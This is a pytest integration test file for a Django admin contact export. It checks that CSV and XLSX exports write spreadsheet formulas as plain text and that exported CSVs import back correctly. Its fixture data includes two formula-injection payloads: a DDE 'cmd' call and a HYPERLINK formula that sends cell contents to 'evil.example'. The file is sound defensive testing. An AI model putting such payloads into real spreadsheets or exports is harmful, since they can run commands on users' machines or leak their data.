"""The contact export through the admin, CSV and XLSX: text a spreadsheet would run as a formula is written
as text, on every column that holds one (names, email, phone, tags)."""

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from contacts.application.services import contact_create
from contacts.infrastructure.models import Contact, ContactImport
from tests.factories import MembershipFactory, UserFactory
from tests.integration.workflows.support import run_due_jobs
from workflows.admin_roles import grant_role

pytestmark = pytest.mark.django_db

FORMULAS = {
    "first_name": "=cmd|' /C calc'!A0",
    "last_name": '@HYPERLINK("https://evil.example/?leak="&A2,"Open")',
}


@pytest.fixture
def marketer(client, account):
    user = UserFactory()
    MembershipFactory(account=account, user=user, role="marketer")
    grant_role(user, "marketer")
    client.force_login(user)
    return client


@pytest.fixture
def contacts(account):
    formula = contact_create(account_id=account.pk, email="eve@example.com", phone="+15550100001", **FORMULAS)
    contact_create(account_id=account.pk, email="sam@example.com", first_name="-2+3", last_name="\t=1+1", phone="")
    contact_create(account_id=account.pk, email="ada@example.com", first_name="Ada", last_name="\r=1+1", phone="")
    Contact.objects.filter(pk=formula.pk).update(tags=["=1+1", "vip"], email="=x@example.com")
    return Contact.objects.filter(account=account).order_by("pk")


def test_the_csv_export_writes_formulas_as_text(marketer, contacts):
    response = marketer.get(reverse("admin:contacts_contact_export"))
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    eve, sam, ada = rows
    assert eve["first_name"] == "'" + FORMULAS["first_name"]
    assert eve["last_name"] == "'" + FORMULAS["last_name"]
    assert eve["email"] == "'=x@example.com"
    assert eve["phone"] == "'+15550100001"
    assert eve["tags"] == "'=1+1, vip"
    assert (sam["first_name"], sam["last_name"]) == ("'-2+3", "'\t=1+1")
    assert (ada["first_name"], ada["last_name"]) == ("Ada", "'\r=1+1")


def test_the_xlsx_export_holds_no_formula(marketer, contacts):
    from openpyxl import load_workbook

    response = marketer.get(reverse("admin:contacts_contact_export") + "?format=xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the file
    assert "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(min_row=2))
    eve = dict(zip([c.value for c in sheet[1]], rows[0], strict=True))
    assert eve["first_name"].value == FORMULAS["first_name"]  # the text itself, no quote added
    assert eve["last_name"].value == FORMULAS["last_name"]
    assert eve["phone"].value == "+15550100001"
    assert eve["tags"].value == "=1+1, vip"
    for name in ("first_name", "last_name", "email", "phone", "tags"):
        assert eve[name].data_type == "s", name
        assert eve[name].quotePrefix, name  # editing the cell in Excel keeps it text
    assert rows[0][0].value == contacts[0].pk  # numbers stay numbers
    assert [row[3].value for row in rows[1:]] == ["-2+3", "Ada"]


def test_a_control_character_xml_cannot_hold_does_not_stop_the_xlsx_export(marketer, account):
    from openpyxl import load_workbook

    contact_create(account_id=account.pk, email="bel@example.com", first_name="bell\x07", phone="")
    response = marketer.get(reverse("admin:contacts_contact_export") + "?format=xlsx")
    assert response.status_code == 200
    assert load_workbook(io.BytesIO(response.content)).active["D2"].value == "bell\ufffd"


@pytest.mark.django_db(transaction=True)  # the import runs as a job
def test_an_exported_csv_imports_back_with_its_phones(marketer, account):
    """The CSV writes `'+15550100001`; the import reads the phone as it was stored."""
    contact_create(account_id=account.pk, email="eve@example.com", phone="+15550100001", first_name="Eve")
    exported = b"".join(marketer.get(reverse("admin:contacts_contact_export")).streaming_content)
    assert b"'+15550100001" in exported
    Contact.objects.all().delete()
    upload = {"account": account.pk, "file": SimpleUploadedFile("contacts.csv", exported)}
    assert marketer.post(reverse("admin:contacts_contact_import"), upload).status_code == 302
    record = ContactImport.objects.latest("pk")
    mapping = {f"column_{i}": target for i, target in enumerate(record.mapping)}
    detail = reverse("admin:contacts_contact_import_detail", args=[record.pk])
    marketer.post(detail, {"existing": "update", "tag": "", "then_enroll": "", "_import": "1", **mapping})
    run_due_jobs(10)
    record.refresh_from_db()
    assert record.status == "imported", record.problems
    assert Contact.objects.get(account=account).phone == "+15550100001"
